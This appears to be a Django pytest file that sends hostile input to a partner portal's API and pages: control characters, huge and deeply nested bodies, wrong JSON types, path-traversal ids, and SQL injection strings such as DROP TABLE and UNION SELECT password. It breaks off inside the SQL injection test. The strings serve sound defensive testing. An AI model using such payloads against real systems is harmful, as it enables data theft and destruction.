"""Hostile input: a table-driven catalogue of what attackers and broken clients send.

Issue 8, point 7 (domain §7). The API answers a clear 4xx with ``{"detail": ...}`` and
the pages show the form again with its error; nothing answers 500 and a refused
request changes nothing (a snapshot of the domain tables is compared before and after).
Text that is acceptable but looks like code (SQL, HTML, spreadsheet formulas) is stored
as typed and is inert wherever it comes out again: pages escape it, CSV exports
neutralise formula-leading cells, searches match it literally.

tests/test_bad_input.py already covers the everyday mistakes (empty and long names, a few
control characters in a name, malformed JSON, unknown fields, wrong states); this file
covers every free-text field, the full set of invisible characters, huge and deeply
nested bodies, wrong JSON types field by field, path-ish ids, injection strings and the
exports.

Sections
  1. invisible and control characters in every free-text field; what real names keep
  2. huge values: 1 MB strings, 100,000-element lists, 10,001 message events
  3. deeply nested JSON
  4. wrong JSON types, field by field
  5. path-ish and out-of-range ids (API and pages)
  6. SQL injection strings: stored verbatim, matched literally, never run
  7. HTML/JS injection: stored as text, rendered escaped
  8. CSV formula injection: every export neutralises formula-leading cells
  9. page forms: the form again with its error
 10. headers, odd query strings and message events
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import os
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from typing import Any
from urllib.parse import urlencode

import pytest
from django.test import Client

from portal.accounts.models import Membership, User
from portal.accounts.services import api_key_create, staff_create, user_create
from portal.analytics.models import MessageEvent
from portal.audit.models import AuditEvent
from portal.billing.cycles_due import next_invoice_cycle
from portal.billing.invoicing import invoice_issue
from portal.billing.models import CreditEntry, Discount, Invoice, PriceChange
from portal.core.clock import frozen_at, now
from portal.lines.models import Line
from portal.lines.services import line_assign, line_move
from portal.partners.models import Partner, SubAccount
from portal.web.principal import ACTING_PARTNER_SESSION_KEY
from portal.workflows.models import DeletionRequest, MergeRequest
from tests.conftest import Api
from tests.factories import (
    SYSTEM,
    db_snapshot,
    issue_invoice,
    make_lines,
    make_staff_key,
    make_sub_account,
    make_tenant,
    make_user,
)

pytestmark = pytest.mark.django_db

ON_POSTGRES = os.environ.get("DATABASE_URL", "").startswith(("postgres://", "postgresql://"))
MEGABYTE = 1_000_000


@pytest.fixture(autouse=True)
def _plain_static_storage(settings) -> None:
    """No collectstatic in tests: pages name assets by their plain paths."""
    settings.STORAGES = {
        **settings.STORAGES,
        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
    }


# --- The world and its snapshot -------------------------------------------------------------


@dataclass(frozen=True)
class World:
    admin: Api
    staff: Api
    partner: Partner
    existing: int  # "Existing – Sales", holds assigned_line
    spare: int  # "Spare – Support", empty: can be merged or deleted without line choices
    pool: int
    line: int  # active, in Available
    assigned_line: int  # active, in Existing

    def path(self, template: str, **extra: object) -> str:
        return template.format(
            slug=self.partner.slug,
            existing=self.existing,
            spare=self.spare,
            pool=self.pool,
            line=self.line,
            assigned_line=self.assigned_line,
            **extra,
        )


@pytest.fixture
def world(db) -> World:
    tenant = make_tenant("Hostile Partner")
    partner = tenant.partner
    existing = make_sub_account(partner, "Existing – Sales")
    spare = make_sub_account(partner, "Spare – Support")
    lines = make_lines(partner, 2)
    line_assign(principal=SYSTEM, line_id=lines[1].pk, sub_account_id=existing.pk, label="Desk")
    return World(
        admin=Api(tenant.keys["admin"]),
        staff=Api(make_staff_key()),
        partner=partner,
        existing=existing.pk,
        spare=spare.pk,
        pool=lines[0].sub_account_id,
        line=lines[0].pk,
        assigned_line=lines[1].pk,
    )


def state() -> dict[str, object]:
    """The domain tables (sub-accounts, lines, periods, audit events, ...) plus the counts
    of the workflow, billing, analytics and account tables."""
    snapshot = db_snapshot()
    for model in (
        MergeRequest,
        DeletionRequest,
        Discount,
        CreditEntry,
        PriceChange,
        Invoice,
        MessageEvent,
        User,
        Membership,
    ):
        snapshot[model.__name__] = model.objects.count()
    return snapshot


def send(client: Api, method: str, path: str, body: Any = None, *, raw: str | None = None):
    data = raw if raw is not None else ("" if body is None else json.dumps(body))
    if method == "GET":
        return client.client.get("/api/v1" + path)
    return client.client.generic(method, "/api/v1" + path, data, content_type="application/json")


def detail(response) -> str:
    """The ``detail`` of an API error, checking that it is the whole JSON body."""
    assert response["Content-Type"].startswith("application/json"), response.content[:300]
    body = response.json()
    assert list(body) == ["detail"], body
    assert body["detail"]
    return str(body["detail"])


def page_text(response) -> str:
    return html.unescape(response.content.decode())


# --- 1. Invisible and control characters ----------------------------------------------------

HOSTILE_CHARACTERS: list[tuple[str, str]] = [
    ("NUL", "\x00"),
    ("SOH", "\x01"),
    ("BEL", "\x07"),
    ("backspace", "\x08"),
    ("tab", "\t"),
    ("line feed", "\n"),
    ("vertical tab", "\x0b"),
    ("form feed", "\x0c"),
    ("carriage return", "\r"),
    ("escape", "\x1b"),
    ("file separator", "\x1c"),
    ("unit separator", "\x1f"),
    ("DEL", "\x7f"),
    ("NEL", "\x85"),
    ("CSI", "\x9b"),
    ("left-to-right mark", "\u200e"),
    ("right-to-left mark", "\u200f"),
    ("Arabic letter mark", "\u061c"),
    ("LRE", "\u202a"),
    ("RLE", "\u202b"),
    ("PDF", "\u202c"),
    ("LRO", "\u202d"),
    ("RLO", "\u202e"),
    ("LRI", "\u2066"),
    ("RLI", "\u2067"),
    ("FSI", "\u2068"),
    ("PDI", "\u2069"),
    ("zero-width space", "\u200b"),
    ("zero-width non-joiner", "\u200c"),
    ("zero-width joiner", "\u200d"),
    ("word joiner", "\u2060"),
    ("invisible times", "\u2062"),
    ("byte order mark", "\ufeff"),
    ("soft hyphen", "\u00ad"),
    ("Mongolian vowel separator", "\u180e"),
    ("tag letter A", "\U000e0041"),
    ("line separator", "\u2028"),
    ("paragraph separator", "\u2029"),
    ("lone high surrogate", "\ud800"),
    ("lone low surrogate", "\udfff"),
    ("private use", "\ue000"),
    ("noncharacter U+FFFE", "\ufffe"),
    ("noncharacter U+FFFF", "\uffff"),
    ("noncharacter U+FDD0", "\ufdd0"),
    ("noncharacter U+1FFFF", "\U0001ffff"),
    ("Hangul filler", "\u3164"),
    ("Hangul choseong filler", "\u115f"),
    ("halfwidth Hangul filler", "\uffa0"),
    ("combining grapheme joiner", "\u034f"),
    ("blank braille pattern", "\u2800"),
    ("replacement character", "\ufffd"),
]
# Whitespace that trimming removes at the ends of a value (refused only inside it).
TRIMMED = "\t\n\x0b\x0c\r"
MULTILINE_KEEPS = "\t\n\r"


def refused_for_characters(text: str) -> bool:
    lowered = text.lower()
    return "control character" in lowered or "not valid utf-8" in lowered


@dataclass(frozen=True)
class TextField:
    """A free-text field the API accepts, and how to put a value in a request."""

    name: str
    method: str
    path: str
    body: Callable[[World, str], dict[str, Any]]
    staff: bool = False
    multiline: bool = False
    kind: str = "text"  # "email" and "phone" wrap the value so only the character is wrong

    def wrap(self, middle: str) -> str:
        if self.kind == "email":
            return f"ann{middle}lee@example.com"
        if self.kind == "phone":
            return f"+1 415{middle}555 0100"
        return f"Ok{middle}text"

    def plain(self) -> str:
        return self.wrap(" " if self.kind == "phone" else "")

    def huge(self) -> str:
        if self.kind == "email":
            return "a" * MEGABYTE + "@example.com"
        return ("1" if self.kind == "phone" else "x") * MEGABYTE

    def send(self, world: World, value: str):
        client = world.staff if self.staff else world.admin
        return send(client, self.method, world.path(self.path), self.body(world, value))


def _assign(**fields: str) -> Callable[[World, str], dict[str, Any]]:
    def body(world: World, value: str) -> dict[str, Any]:
        data: dict[str, Any] = {"sub_account_id": world.existing, "label": "Desk"}
        data.update({k: value for k in fields})
        return data

    return body


TEXT_FIELDS = [
    TextField("sub-account name", "POST", "/sub-accounts", lambda w, v: {"name": v}),
    *[
        TextField(
            f"sub-account {f.replace('_', ' ')}",
            "POST",
            "/sub-accounts",
            lambda w, v, f=f: {"name": "Fine – Sales", f: v},
            multiline=f == "notes",
            kind={"contact_email": "email", "contact_phone": "phone"}.get(f, "text"),
        )
        for f in ("contact_name", "contact_email", "contact_phone", "internal_reference", "notes")
    ],
    TextField("rename", "PATCH", "/sub-accounts/{existing}", lambda w, v: {"name": v}),
    TextField(
        "patch contact name", "PATCH", "/sub-accounts/{existing}", lambda w, v: {"contact_name": v}
    ),
    TextField(
        "patch notes",
        "PATCH",
        "/sub-accounts/{existing}",
        lambda w, v: {"notes": v},
        multiline=True,
    ),
    TextField("line label", "POST", "/lines/{line}/assign", _assign(label="")),
    TextField("line user name", "POST", "/lines/{line}/assign", _assign(user_name="")),
    TextField(
        "line user email", "POST", "/lines/{line}/assign", _assign(user_email=""), kind="email"
    ),
    TextField(
        "merge reason",
        "POST",
        "/merge-requests",
        lambda w, v: {"source_ids": [w.spare], "target_id": w.existing, "reason": v},
        multiline=True,
    ),
    TextField(
        "deletion reason",
        "POST",
        "/deletion-requests",
        lambda w, v: {"sub_account_id": w.spare, "reason": v},
        multiline=True,
    ),
    TextField(
        "discount name",
        "POST",
        "/discounts?partner={slug}",
        lambda w, v: {"kind": "percent", "value": "10", "name": v},
        staff=True,
    ),
    TextField(
        "credit reason",
        "POST",
        "/credits?partner={slug}",
        lambda w, v: {"amount": "5", "reason": v},
        staff=True,
    ),
]


@pytest.mark.parametrize("target", TEXT_FIELDS, ids=lambda t: t.name)
def test_each_text_field_accepts_plain_text(world, target):
    """The control case: the same request with no odd character goes through."""
    response = target.send(world, target.plain())
    assert 200 <= response.status_code < 300, response.content


@pytest.mark.parametrize("target", TEXT_FIELDS, ids=lambda t: t.name)
def test_each_text_field_refuses_invisible_and_control_characters(world, target):
    before = state()
    wrong = []
    for label, ch in HOSTILE_CHARACTERS:
        if target.multiline and ch in MULTILINE_KEEPS:
            continue
        response = target.send(world, target.wrap(ch))
        if response.status_code != 422 or not refused_for_characters(detail(response)):
            wrong.append((label, response.status_code, response.content[:200]))
    assert wrong == []
    assert state() == before


@pytest.mark.parametrize("where", ["leading", "trailing", "alone"])
def test_a_name_refuses_the_character_at_either_end_or_alone(world, where):
    """Trimming removes spaces, tabs and line breaks at the ends, and nothing else: an
    invisible or control character there is refused like one inside."""
    before = state()
    wrong = []
    for label, ch in HOSTILE_CHARACTERS:
        if ch in TRIMMED:
            continue
        name = {"leading": ch + "Name", "trailing": "Name" + ch, "alone": ch}[where]
        response = send(world.admin, "POST", "/sub-accounts", {"name": name})
        if response.status_code != 422 or not refused_for_characters(detail(response)):
            wrong.append((label, response.status_code, response.content[:200]))
    assert wrong == []
    assert state() == before


# Zero-width joiners are refused even inside emoji sequences and Persian or Indic words:
# "Ac\u200dme" would otherwise be a second sub-account that looks exactly like "Acme".
REFUSED_NAMES = [
    ("stacked accents (Zalgo)", "Z" + "\u0336" * 9 + "algo", "stacks more than 8"),
    ("emoji ZWJ sequence", "Dev \U0001f469\u200d\U0001f4bb team", "control character"),
    ("flag tag sequence", "\U0001f3f4\U000e0067\U000e0062\U000e007f Ltd", "control character"),
    ("only spaces of other scripts", "\u3000\u00a0\u2003", "required"),
]


@pytest.mark.parametrize(
    ("label", "name", "says"), REFUSED_NAMES, ids=[c[0] for c in REFUSED_NAMES]
)
def test_odd_unicode_names_are_refused(world, label, name, says):
    before = state()
    response = send(world.admin, "POST", "/sub-accounts", {"name": name})
    assert response.status_code == 422, response.content
    assert says in detail(response)
    assert state() == before


ACCEPTED_NAMES = [
    ("precomposed accents", "Café Zürich – Ventas"),
    ("decomposed accents become NFC", "Cafe\u0301 Zu\u0308rich – Ventas"),
    ("Vietnamese", "Nguyễn Văn An – Bán hàng"),
    ("Arabic, right to left without controls", "شركة الأمل – مبيعات"),
    ("Hebrew with points", "שָׁלוֹם – תמיכה"),
    ("Devanagari conjunct", "क्षत्रिय – बिक्री"),
    ("Tibetan stack", "བསྒྲུབས – Sales"),
    ("Thai", "ที่ทำการ – Sales"),
    ("CJK", "漢字株式会社 – 営業"),
    ("emoji", "Pizza 🍕 – Delivery"),
    ("keycap emoji", "Line 1\ufe0f\u20e3 – Support"),
    ("eight stacked marks", "Z" + "\u0336" * 8 + "algo"),
    ("no-break space inside", "ACME\u00a0GmbH – Sales"),
    ("ideographic spaces at the ends", "\u3000Tokyo – Sales\u3000"),
]


@pytest.mark.parametrize(("label", "name"), ACCEPTED_NAMES, ids=[c[0] for c in ACCEPTED_NAMES])
def test_real_names_in_any_script_are_kept(world, label, name):
    response = send(world.admin, "POST", "/sub-accounts", {"name": name})
    assert response.status_code == 201, response.content
    expected = unicodedata.normalize("NFC", name.strip())
    assert response.json()["name"] == expected
    assert SubAccount.objects.get(pk=response.json()["id"]).name == expected


def test_names_differing_only_in_normalisation_are_duplicates(world):
    assert send(world.admin, "POST", "/sub-accounts", {"name": "Café – Sales"}).status_code == 201
    before = state()
    response = send(world.admin, "POST", "/sub-accounts", {"name": "CAFE\u0301 – SALES"})
    assert response.status_code == 409, response.content
    assert "already exists" in detail(response)
    assert state() == before


# --- 2. Huge values -------------------------------------------------------------------------


@pytest.mark.parametrize("target", TEXT_FIELDS, ids=lambda t: t.name)
def test_a_megabyte_in_a_text_field_is_refused_briefly(world, target):
    before = state()
    response = target.send(world, target.huge())
    assert response.status_code == 422, response.content[:300]
    assert "characters long" in detail(response)
    assert len(response.content) < 1_000  # the answer does not echo the megabyte
    assert state() == before


@dataclass(frozen=True)
class Case:
    """One request: ``path`` and ``body`` may use the World's fields ({existing}, {slug}...)."""

    name: str
    method: str
    path: str
    body: Any = None  # JSON, or callable(World) -> JSON
    raw: str | None = None
    staff: bool = False
    status: int | tuple[int, ...] = 422
    says: str = ""
    max_bytes: int | None = None  # the answer's size limit, when the input was huge
    marks: tuple[Any, ...] = ()

    def run(self, world: World):
        client = world.staff if self.staff else world.admin
        body = self.body(world) if callable(self.body) else self.body
        return send(client, self.method, world.path(self.path), body, raw=self.raw)


def check_refused(world: World, case: Case) -> None:
    before = state()
    response = case.run(world)
    statuses = case.status if isinstance(case.status, tuple) else (case.status,)
    assert response.status_code in statuses, response.content[:500]
    text = detail(response)
    if case.says:
        assert case.says.lower() in text.lower(), text[:500]
    if case.max_bytes is not None:
        assert len(response.content) <= case.max_bytes, len(response.content)
    assert state() == before


HUGE_CASES = [
    Case(
        "100,000 unknown line ids",
        "POST",
        "/lines/move",
        lambda w: {"line_ids": list(range(10**9, 10**9 + 100_000)), "sub_account_id": w.existing},
        status=404,
        says="not found",
        max_bytes=500,
    ),
    Case(
        "99,999 copies of a real line and one unknown",
        "POST",
        "/lines/move",
        lambda w: {"line_ids": [w.line] * 99_999 + [10**9], "sub_account_id": w.existing},
        status=404,
        says="not found",
        max_bytes=500,
    ),
    Case(
        "100,001 line ids",
        "POST",
        "/lines/move",
        lambda w: {"line_ids": [w.line] * 100_001, "sub_account_id": w.existing},
        says="at most 100000",
        max_bytes=1_000,
    ),
    Case(
        "100,000 merge sources",
        "POST",
        "/merge-requests",
        lambda w: {"source_ids": list(range(1, 100_001)), "target_id": w.existing},
        says="at most 50",
        max_bytes=1_000,
    ),
    Case(
        "10,001 message events",
        "POST",
        "/message-events",
        lambda w: {"events": [{"id": str(i)} for i in range(10_001)]},
        staff=True,
        says="at most 10,000",
        max_bytes=1_000,
    ),
    Case(
        "a megabyte-long field name",
        "POST",
        "/sub-accounts",
        {"name": "Fine", "x" * MEGABYTE: 1},
        max_bytes=2_000,
    ),
    Case(
        "a megabyte of area code",
        "POST",
        "/line-orders",
        {"quantity": 1, "area_code": "4" * MEGABYTE},
        says="area code",
        max_bytes=1_000,
    ),
    Case(
        "a megabyte of discount value",
        "POST",
        "/discounts?partner={slug}",
        {"kind": "percent", "value": "9" * MEGABYTE},
        staff=True,
        max_bytes=1_000,
    ),
    Case(
        "a megabyte of credit amount",
        "POST",
        "/credits?partner={slug}",
        {"amount": "1" * MEGABYTE, "reason": "x"},
        staff=True,
        max_bytes=1_000,
    ),
    Case(
        "a number with 100,000 digits",
        "POST",
        "/line-orders",
        raw='{"quantity": ' + "9" * 100_000 + "}",
        status=(400, 422),
        max_bytes=1_000,
    ),
    Case(
        "a megabyte of whitespace around a long name",
        "POST",
        "/sub-accounts",
        {"name": " " * MEGABYTE + "x" * 121 + "\n" * MEGABYTE},
        says="characters long",
        max_bytes=1_000,
    ),
]


@pytest.mark.parametrize("case", [pytest.param(c, marks=c.marks, id=c.name) for c in HUGE_CASES])
def test_huge_input_is_refused(world, case):
    check_refused(world, case)


def test_ten_thousand_junk_events_are_each_rejected_and_nothing_is_stored(world):
    before = state()
    events = [7, None, "x" * 100, [], {"id": "\x00"}] * 2_000
    response = send(world.staff, "POST", "/message-events", {"events": events})
    assert response.status_code == 200, response.content[:300]
    body = response.json()
    assert body["accepted"] == 0
    assert len(body["rejected"]) == 10_000
    assert state() == before


@pytest.mark.parametrize(
    ("path", "param"),
    [
        ("/lines", "search"),
        ("/sub-accounts", "search"),
        ("/audit-events", "action"),
    ],
)
def test_a_hundred_thousand_character_search_finds_nothing(world, path, param):
    response = world.admin.get(path, **{param: "a" * 100_000})
    assert response.status_code == 200, response.content[:300]
    assert response.json() == {"items": [], "count": 0}


def test_huge_search_terms_on_pages_answer_a_page(world):
    client = page_client(world)
    for url in (
        "/sub-accounts/options/?sub_account=" + "a" * 60_000,
        "/sub-accounts/check-name/?name=" + "a" * 60_000,
    ):
        assert client.get(url).status_code == 200


# --- 3. Deeply nested JSON ------------------------------------------------------------------


def arrays(depth: int, leaf: str = "1") -> str:
    return "[" * depth + leaf + "]" * depth


def objects(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


# (label, body for a field name, statuses). Python 3.13's JSON parser gives up near 10,000
# levels, so the deeper bodies are unparsable (400); a Python whose parser goes deeper would
# parse them and validation must then refuse them (422). Shallower ones parse (422).
UNPARSABLE = (400, 422)
NESTED_BODIES = [
    ("10,000 nested arrays", lambda f: arrays(10_000), UNPARSABLE),
    ("10,000 nested objects", lambda f: objects(10_000), UNPARSABLE),
    ("100,000 nested arrays", lambda f: arrays(100_000), UNPARSABLE),
    ("100,000 unclosed arrays", lambda f: "[" * 100_000, UNPARSABLE),
    ("10,000 nested arrays in a field", lambda f: f'{{"{f}": {arrays(10_000)}}}', UNPARSABLE),
    ("5,000 nested arrays in a field", lambda f: f'{{"{f}": {arrays(5_000)}}}', 422),
    ("5,000 nested objects in a field", lambda f: f'{{"{f}": {objects(5_000)}}}', 422),
    (
        "5,000 nested arrays in an unknown field",
        lambda f: f'{{"{f}": 1, "x": {arrays(5_000)}}}',
        422,
    ),
]

NESTING_ENDPOINTS = [
    ("POST", "/sub-accounts", "name", False),
    ("PATCH", "/sub-accounts/{existing}", "name", False),
    ("POST", "/lines/{line}/assign", "label", False),
    ("POST", "/lines/{line}/move", "sub_account_id", False),
    ("POST", "/lines/move", "line_ids", False),
    ("POST", "/line-orders", "quantity", False),
    ("POST", "/merge-requests", "source_ids", False),
    ("POST", "/merge-requests/preview", "target_id", False),
    ("POST", "/deletion-requests", "sub_account_id", False),
    ("POST", "/message-events", "events", True),
    ("POST", "/discounts?partner={slug}", "kind", True),
    ("POST", "/credits?partner={slug}", "amount", True),
    ("PATCH", "/billing/settings?partner={slug}", "line_price", True),
]


@pytest.mark.parametrize(
    ("method", "path", "field_name", "staff"),
    NESTING_ENDPOINTS,
    ids=[f"{m} {p}" for m, p, _, _ in NESTING_ENDPOINTS],
)
def test_deeply_nested_json_is_refused(world, method, path, field_name, staff):
    client = world.staff if staff else world.admin
    before = state()
    wrong = []
    for label, build, status in NESTED_BODIES:
        response = send(client, method, world.path(path), raw=build(field_name))
        if field_name == "events" and response.status_code == 200:
            # A batch is checked event by event: a nested list is one rejected event.
            if response.json()["accepted"] != 0:
                wrong.append((label, "accepted"))
            continue
        statuses = status if isinstance(status, tuple) else (status,)
        if response.status_code not in statuses or not detail(response):
            wrong.append((label, response.status_code, response.content[:200]))
    assert wrong == []
    assert state() == before


UNKNOWN_FIELD_CASES = [
    Case(
        "merge request",
        "POST",
        "/merge-requests",
        lambda w: {"source_ids": [w.spare], "target_id": w.existing, "force": True},
        says="extra",
    ),
    Case(
        "deletion request",
        "POST",
        "/deletion-requests",
        lambda w: {"sub_account_id": w.spare, "purge_now": True},
        says="extra",
    ),
    Case(
        "message events",
        "POST",
        "/message-events",
        {"events": [], "partner_id": 1},
        staff=True,
        says="extra",
    ),
    Case(
        "discount",
        "POST",
        "/discounts?partner={slug}",
        {"kind": "percent", "value": "10", "cycle": 3},
        staff=True,
    ),
    Case(
        "credit",
        "POST",
        "/credits?partner={slug}",
        {"amount": "5", "reason": "Goodwill", "sub_account": 2},
        staff=True,
    ),
    Case(
        "billing settings",
        "PATCH",
        "/billing/settings?partner={slug}",
        {"prorate_new_line": False},
        staff=True,
    ),
]


@pytest.mark.parametrize(
    "case", [pytest.param(c, marks=c.marks, id=c.name) for c in UNKNOWN_FIELD_CASES]
)
def test_an_unknown_field_is_refused(world, case):
    check_refused(world, case)


# --- 4. Wrong JSON types --------------------------------------------------------------------

WRONG_FOR_TEXT = [1, 1.5, True, [], {}, ["x"], {"x": "y"}]
# "{existing}" is the id of a real sub-account, as a string (see resolve()).
WRONG_FOR_ID = ["{existing}", "abc", 1.5, True, [], {}, None, "1e3"]
WRONG_FOR_IDS = ["1", 1, {}, {"0": 1}, [[1]], [None], [1.5], ["{spare}"], [True], [{}]]
WRONG_FOR_BOOL = ["yes", "no", "true", 0, 1, [], {}, "maybe"]
WRONG_FOR_MONEY = [True, False, [], {}, "abc", "NaN", "-Infinity", "Infinity", "-5", "0", "1e999"]


@dataclass(frozen=True)
class Field:
    endpoint: str
    method: str
    path: str
    valid: Callable[[World], dict[str, Any]]
    name: str
    wrong: list[Any]
    staff: bool = False


FIELDS = [
    *[
        Field(
            "create sub-account",
            "POST",
            "/sub-accounts",
            lambda w: {"name": "Typed"},
            f,
            [
                *WRONG_FOR_TEXT,
                *([None] if f == "name" else []),
            ],
        )
        for f in (
            "name",
            "contact_name",
            "contact_email",
            "contact_phone",
            "internal_reference",
            "notes",
        )
    ],
    *[
        Field(
            "patch sub-account",
            "PATCH",
            "/sub-accounts/{existing}",
            lambda w: {},
            f,
            [
                *WRONG_FOR_TEXT,
                *([None] if f == "name" else []),
            ],
        )
        for f in ("name", "contact_name", "notes")
    ],
    *[
        Field(
            "assign line",
            "POST",
            "/lines/{line}/assign",
            lambda w: {"sub_account_id": w.existing, "label": "Desk"},
            f,
            wrong,
        )
        for f, wrong in (
            ("sub_account_id", WRONG_FOR_ID),
            ("label", [*WRONG_FOR_TEXT, None]),
            ("user_name", WRONG_FOR_TEXT),
            ("user_email", WRONG_FOR_TEXT),
            ("daily_limit", ["10", 1.5, True, [], {}, "1e3", 0, -1, 100_001, 2**70]),
        )
    ],
    Field(
        "bulk move",
        "POST",
        "/lines/move",
        lambda w: {"line_ids": [w.line], "sub_account_id": w.existing},
        "line_ids",
        [*WRONG_FOR_IDS, None],
    ),
    Field(
        "bulk move",
        "POST",
        "/lines/move",
        lambda w: {"line_ids": [w.line], "sub_account_id": w.existing},
        "sub_account_id",
        WRONG_FOR_ID,
    ),
    Field(
        "order lines",
        "POST",
        "/line-orders",
        lambda w: {"quantity": 1},
        "area_code",
        [415, 4.15, True, [], {}, ["415"], "\u00b2\u00b2", "\u0664\u0661\u0665"],
    ),
    *[
        Field(
            "merge request",
            "POST",
            "/merge-requests",
            lambda w: {"source_ids": [w.spare], "target_id": w.existing},
            f,
            wrong,
        )
        for f, wrong in (
            (
                "source_ids",
                WRONG_FOR_IDS,
            ),
            ("target_id", WRONG_FOR_ID),
            ("reason", WRONG_FOR_TEXT),
        )
    ],
    *[
        Field(
            "deletion request",
            "POST",
            "/deletion-requests",
            lambda w: {"sub_account_id": w.spare},
            f,
            wrong,
        )
        for f, wrong in (
            ("sub_account_id", ["{spare}", *WRONG_FOR_ID[1:]]),
            ("line_disposition", [1, True, "shred", "MOVE", [], {}, ["move"]]),
            ("reason", WRONG_FOR_TEXT),
        )
    ],
    Field(
        "deletion request moving lines",
        "POST",
        "/deletion-requests",
        lambda w: {"sub_account_id": w.existing, "line_disposition": "move"},
        "move_to_id",
        ["{spare}", *WRONG_FOR_ID[1:]],
    ),
    Field(
        "message events",
        "POST",
        "/message-events",
        lambda w: {"events": []},
        "events",
        ["x", 1, {}, None, True, {"0": {}}],
        staff=True,
    ),
    *[
        Field(
            "grant discount",
            "POST",
            "/discounts?partner={slug}",
            lambda w: {"kind": "percent", "value": "10"},
            f,
            wrong,
            staff=True,
        )
        for f, wrong in (
            ("kind", [1, "half", None, [], {}, "PERCENT"]),
            ("value", [*WRONG_FOR_MONEY, "100.001", "101"]),
            ("name", WRONG_FOR_TEXT),
            (
                "sub_account_id",
                WRONG_FOR_ID[:-2],
            ),
            (
                "first_month",
                [202608, "2026-8", "2026-13", "0000-01", "26-08", [], "\uff12026-08"],
            ),
            ("cycles", ["3", 1.5, True, 0, -1, 121, [], {}]),
        )
    ],
    *[
        Field(
            "grant credit",
            "POST",
            "/credits?partner={slug}",
            lambda w: {"amount": "5", "reason": "Goodwill"},
            f,
            wrong,
            staff=True,
        )
        for f, wrong in (
            ("amount", [*WRONG_FOR_MONEY, None]),
            ("reason", [*WRONG_FOR_TEXT, None]),
            (
                "sub_account_id",
                WRONG_FOR_ID[:-2],
            ),
        )
    ],
    *[
        Field(
            "billing settings",
            "PATCH",
            "/billing/settings?partner={slug}",
            lambda w: {},
            f,
            wrong,
            staff=True,
        )
        for f, wrong in (
            ("line_price", [*WRONG_FOR_MONEY[:-2], "1e999"]),
            (
                "prorate_new_lines",
                WRONG_FOR_BOOL,
            ),
            (
                "credit_disconnects",
                WRONG_FOR_BOOL,
            ),
        )
    ],
]


def resolve(value: Any, world: World) -> Any:
    """``"{spare}"`` (also inside a list) becomes the id of that sub-account, as a string."""
    if isinstance(value, str) and value.startswith("{"):
        return world.path(value)
    if isinstance(value, list):
        return [resolve(v, world) for v in value]
    return value


@pytest.mark.parametrize(
    ("target", "values"),
    [pytest.param(f, tuple(f.wrong), id=f"{f.endpoint} {f.name}") for f in FIELDS],
)
def test_a_wrong_json_type_is_refused(world, target, values):
    client = world.staff if target.staff else world.admin
    before = state()
    wrong = []
    for value in values:
        body = {**target.valid(world), target.name: resolve(value, world)}
        response = send(client, target.method, world.path(target.path), body)
        if response.status_code != 422 or not detail(response):
            wrong.append((value, response.status_code, response.content[:200]))
    assert wrong == []
    assert state() == before


# --- 5. Path-ish and out-of-range ids -------------------------------------------------------

PATHISH_IDS = [
    "1e9",
    "-1",
    "0",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "99999999999999999999999",
    "0x1",
    "1%00",
    "%00",
    "%EF%BC%91",  # fullwidth 1
    "%D9%A1",  # Arabic-Indic 1
    "NaN",
    "Infinity",
    "%27%20OR%201%3D1%20--",
    "1%3B%20DROP%20TABLE%20lines",
    "%3Cscript%3E",
    "%252e%252e%252f1",
    "..%5C1",
]
TRAVERSAL_IDS = ["../1", "..%2F1"]
API_ID_PATHS = [
    ("GET", "/sub-accounts/{}", None),
    ("PATCH", "/sub-accounts/{}", {"name": "Renamed"}),
    ("GET", "/sub-accounts/{}/analytics", None),
    ("GET", "/lines/{}", None),
    ("POST", "/lines/{}/move", "move"),
    ("POST", "/lines/{}/disconnect", None),
    ("GET", "/line-orders/{}", None),
    ("POST", "/line-orders/{}/cancel", None),
    ("GET", "/invoices/{}", None),
    ("GET", "/invoices/{}/csv", None),
    ("GET", "/merge-requests/{}", None),
    ("POST", "/merge-requests/{}/cancel", None),
    ("GET", "/deletion-requests/{}", None),
    ("POST", "/deletion-requests/{}/restore", None),
]


def _api_id_params() -> list[Any]:
    return [
        pytest.param(
            method, template, body, [*PATHISH_IDS, *TRAVERSAL_IDS], id=f"{method} {template}"
        )
        for method, template, body in API_ID_PATHS
    ]


@pytest.mark.parametrize(("method", "template", "body", "ids"), _api_id_params())
def test_a_pathish_id_in_an_api_path_is_refused(world, method, template, body, ids):
    if body == "move":
        body = {"sub_account_id": world.existing}
    before = state()
    wrong = []
    for bad in ids:
        response = send(world.admin, method, template.format(bad), body)
        if response.status_code not in (404, 422) or not response["Content-Type"].startswith(
            "application/json"
        ):
            wrong.append((bad, response.status_code, response.content[:120]))
        else:
            assert detail(response)
    assert wrong == []
    assert state() == before


PAGE_ID_PATHS = [
    "/sub-accounts/{}/",
    "/sub-accounts/{}/edit/",
    "/sub-accounts/{}/request-merge/",
    "/lines/{}/add/",
    "/lines/{}/move/",
    "/lines/{}/disconnect/",
    "/lines/orders/{}/cancel/",
    "/invoices/{}/",
    "/invoices/{}/csv",
    "/requests/merge/{}/",
    "/analytics/sub-accounts/{}/",
    "/analytics/sub-accounts/{}/lines.csv",
]


def page_client(world: World, role: str = "admin") -> Client:
    client = Client()
    client.force_login(make_user(world.partner, f"{role}@hostile.example", role))
    return client


@pytest.mark.parametrize("template", PAGE_ID_PATHS)
def test_a_pathish_id_in_a_page_path_is_not_found(world, template):
    client = page_client(world)
    before = state()
    wrong = []
    for bad in [*PATHISH_IDS, *TRAVERSAL_IDS]:
        url = template.format(bad)
        for method in ("get", "post"):
            response = getattr(client, method)(url)
            if response.status_code not in (400, 404, 405):
                wrong.append((method, url, response.status_code))
    assert wrong == []
    assert state() == before


# --- 6. SQL injection -----------------------------------------------------------------------

SQL_INJECTIONS = [
    "' OR 1=1 --",
    "1; DROP TABLE lines_line",
    "1; DROP TABLE lines",
    '" OR ""="',
    "x' UNION SELECT password FROM accounts_user --",
    "%' AND 1=1 --",
    "admin'--",
    "1) OR (1=1",
    "'; SELECT pg_sleep(5); --",
    "\\'; DELETE FROM partners_subaccount; --",
    "_%_",
]


def test_sql_in_free_text_is_stored_verbatim_and_matched_literally(world):
    lines_before = Line.objects.count()
    created = {}
    for i, payload in enumerate(SQL_INJECTIONS):
        response = send(
            world.admin,
            "POST",
            "/sub-accounts",
